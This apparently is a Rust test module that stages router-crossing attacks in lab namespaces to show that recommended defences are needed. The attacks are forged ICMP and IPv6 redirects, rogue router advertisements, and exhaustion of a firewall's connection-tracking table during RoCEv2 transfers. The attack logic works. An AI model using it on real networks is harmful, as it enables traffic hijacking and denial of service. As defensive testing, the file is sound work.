//! Attacks on connections that cross a router: routes that other hosts redirect, and the table of a firewall
//! that tracks connections. The victim, or the router, has the setting that docs/design/security.md
//! recommends; the same packets without it show that the setting is needed.

use std::net::SocketAddrV4;
use std::time::Duration;

use programs::forge_control::{datagram, icmp, quote_v4, redirect_v6, router_advertisement};
use programs::probe::Probe;
use programs::{Job, Namespace};

use crate::Outcome;
use crate::kernel::{RATE, against_a_transfer, has_changed, quoted_ports, v6};
use crate::place::{ATTACKER_V6, Effort, Place, ROUTER, ROUTER_V6, v4};

/// A host behind the router, by whose name the attacker's datagrams are answered.
const ANSWERING: &str = "10.89.0.77";
/// New flows that the attacker opens while connections are used, which the table has no entries for.
const MORE_FLOWS: u16 = 4_000;
/// How long a program that opens flows may take: a table of 262,144 entries takes 9 s on a busy processor.
const SECONDS: u64 = 300;
/// The time after which Linux takes a flow with packets in both directions for a stream, and keeps its entry
/// when the table is full (nf_conntrack_proto_udp.c), and a second.
const STREAM: Duration = Duration::from_secs(3);
/// A firewall that tracks what it forwards. Packets that are not tracked are accepted by their port.
const TRACKING: &str = "table inet firewall {
    chain forward {
        type filter hook forward priority filter; policy drop;
        udp dport 4791 ct state untracked accept
        ct state { new, established, related } accept
    }
}
";
/// The remedy: RoCEv2 is not tracked.
const EXEMPT: &str = "table inet exempt {
    chain prerouting {
        type filter hook prerouting priority raw;
        udp dport 4791 notrack
    }
}
";

fn text(error: impl std::fmt::Display) -> String {
    error.to_string()
}

/// Sets values of `sysctl` in a machine.
fn set(machine: &Namespace, values: &[&str]) -> Result<(), String> {
    let line = format!("sysctl -qw {}", values.join(" "));
    machine.call(&line).map(drop).map_err(text)
}

/// Redirects of the victim's packets to the attacker, in the router's name.
pub(crate) fn redirects(effort: Effort) -> Outcome {
    let (place, _router) = Place::routed().map_err(text)?;
    let (victim, peer, attacker) = (v4(&place.victim), v4(&place.peer), v4(&place.attacker));
    let mut packets: Vec<Vec<u8>> = quoted_ports()
        .map(|port| {
            let quoted = quote_v4(victim, peer, port);
            icmp(ROUTER, victim, 5, 1, attacker.octets(), &quoted)
        })
        .collect();
    let (victim_v6, peer_v6) = (v6(&place.victim), v6(&place.peer));
    packets.push(redirect_v6(ROUTER_V6, victim_v6, ATTACKER_V6, peer_v6));
    let accept = |value: u8| {
        let names = ["ipv4.conf.all", "ipv4.conf.eth0", "ipv6.conf.eth0"];
        let values = names.map(|name| format!("net.{name}.accept_redirects={value}"));
        set(&place.victim, &values.each_ref().map(String::as_str))
    };
    accept(0)?;
    against_a_transfer(&place, &[], &packets, effort)?;
    let outcome = against_a_transfer(&place, &["-x", "2"], &packets, effort)?;
    accept(1)?;
    place.blast(&packets, RATE, Effort::Short).map_err(text)?;
    has_changed(
        &place,
        &format!("ip route get {peer}"),
        &format!("via {attacker} "),
    )?;
    has_changed(
        &place,
        &format!("ip -6 route get {peer_v6}"),
        &format!("via {ATTACKER_V6} "),
    )?;
    Ok(outcome)
}

/// Router advertisements of the attacker, whose route is preferred to the victim's own.
pub(crate) fn advertisements(effort: Effort) -> Outcome {
    let (place, _router) = Place::routed().map_err(text)?;
    let packets = [router_advertisement(ATTACKER_V6, v6(&place.victim), 1280)];
    let route = format!("ip -6 route get {}", v6(&place.peer));
    set(&place.victim, &["net.ipv6.conf.eth0.accept_ra=0"])?;
    let outcome = against_a_transfer(&place, &["-x", "2"], &packets, effort)?;
    has_changed(&place, &route, &format!("via {ROUTER_V6} "))?;
    set(&place.victim, &["net.ipv6.conf.eth0.accept_ra=1"])?;
    place.blast(&packets, RATE, Effort::Short).map_err(text)?;
    has_changed(&place, &route, &format!("via {ATTACKER_V6} "))?;
    Ok(outcome)
}

/// A router with a firewall that tracks connections.
struct Firewall {
    place: Place,
    router: Namespace,
    flows: Probe,
    entries_max: u64,
}

impl Firewall {
    fn new(rules: &[&str]) -> Result<Self, String> {
        let (place, router) = Place::routed().map_err(text)?;
        let file = place.folder.path().join("rules");
        std::fs::write(&file, rules.concat()).map_err(text)?;
        router
            .call(&format!("nft -f {}", file.display()))
            .map_err(text)?;
        // Entries stay for as long as the attack lasts.
        set(
            &router,
            &[
                "net.netfilter.nf_conntrack_udp_timeout=600",
                "net.netfilter.nf_conntrack_udp_timeout_stream=600",
            ],
        )?;
        let mut firewall = Self {
            place,
            router,
            flows: Probe::compile_with("cc", "flows", &[]).map_err(text)?,
            entries_max: 0,
        };
        firewall.entries_max = firewall.number("max")?;
        Ok(firewall)
    }

    /// `nf_conntrack_max` or `nf_conntrack_count` of the router.
    fn number(&self, name: &str) -> Result<u64, String> {
        let line = format!("sysctl -n net.netfilter.nf_conntrack_{name}");
        let said = self.router.call(&line).map_err(text)?;
        said.trim()
            .parse()
            .map_err(|_| format!("`{line}` says {said}"))
    }

    /// Packets that were dropped because the table was full: a column of each processor's line.
    fn dropped(&self) -> Result<u64, String> {
        let line = "cat /proc/net/stat/nf_conntrack";
        let said = self.router.call(line).map_err(text)?;
        let mut lines = said.lines().map(str::split_whitespace);
        let column = lines
            .next()
            .and_then(|mut names| names.position(|name| name == "drop"))
            .ok_or_else(|| format!("`{line}` has no column `drop`: {said}"))?;
        Ok(lines
            .filter_map(|mut words| u64::from_str_radix(words.nth(column)?, 16).ok())
            .sum())
    }

    /// Has the attacker send a datagram of each of more flows than the table has entries, which a host behind
    /// the router answers or does not.
    fn open_flows(&self, are_answered: bool) -> Result<(), String> {
        let attacker = v4(&self.place.attacker).to_string();
        let count = (self.entries_max + self.entries_max / 8).to_string();
        let program = self.flows.path().to_string_lossy();
        let words = [&*program, &attacker, ANSWERING, &count];
        let answers = [&words[..], &["answers"]].concat();
        let mut running = vec![self.place.attacker.start_plain(&words).map_err(text)?];
        if are_answered {
            running.push(self.place.peer.start_plain(&answers).map_err(text)?);
        }
        for mut program in running {
            let finished = program.wait(SECONDS).map_err(text)?;
            if !finished.succeeded() {
                return Err(format!("flows: {}", finished.output));
            }
        }
        Ok(())
    }

    /// Checks that the attack had an effect: the table is full.
    fn is_full(&self) -> Result<String, String> {
        let (count, max) = (self.number("count")?, self.entries_max);
        // An entry goes when another one is about to come.
        match count >= max - max / 100 {
            true => Ok(format!("{count} of {max} entries")),
            false => Err(format!(
                "the attack had no effect: the table has {count} of {max} entries"
            )),
        }
    }

    fn more_flows(&self) -> Vec<Vec<u8>> {
        let from = v4(&self.place.attacker);
        let to = SocketAddrV4::new(v4(&self.place.peer), 9);
        (0..MORE_FLOWS)
            .map(|number| SocketAddrV4::new(from, 1024 + number))
            .map(|from| datagram(from, to))
            .collect()
    }
}

/// Flows without answers: the table gives up such entries for new ones, those of RoCEv2 among them, whose
/// next packet adds them again.
pub(crate) fn unanswered_flows(effort: Effort) -> Outcome {
    let firewall = Firewall::new(&[TRACKING])?;
    let place = &firewall.place;
    let _server = crate::cm::serve(place, &[])?;
    firewall.open_flows(false)?;
    let entries = firewall.is_full()?;
    let outcome = against_a_transfer(place, &[], &firewall.more_flows(), effort)?;
    crate::cm::host_reads(place)?;
    firewall.is_full()?;
    Ok(format!("{entries}; {outcome}; a host connects"))
}

/// Flows with answers, whose entries the table keeps: packets of new flows are dropped. RoCEv2 is not
/// tracked.
pub(crate) fn answered_flows(effort: Effort) -> Outcome {
    let firewall = Firewall::new(&[TRACKING, EXEMPT])?;
    let place = &firewall.place;
    let _server = crate::cm::serve(place, &[])?;
    firewall.open_flows(true)?;
    std::thread::sleep(STREAM);
    firewall.open_flows(true)?;
    let entries = firewall.is_full()?;
    let before = firewall.dropped()?;
    let mut connected = 0;
    std::thread::scope(|scope| {
        let packets = firewall.more_flows();
        let blast = scope.spawn(move || place.blast(&packets, RATE, effort).map_err(text));
        while !blast.is_finished() {
            crate::cm::host_reads(place)?;
            connected += 1;
        }
        blast
            .join()
            .map_err(|_| "the attacker panicked".to_owned())?
    })?;
    let dropped = firewall.dropped()? - before;
    if dropped == 0 {
        return Err("the attack had no effect: no packet of a new flow was dropped".to_owned());
    }
    Ok(format!(
        "{entries}; {dropped} packets of new flows dropped; {connected} hosts connected meanwhile"
    ))
}
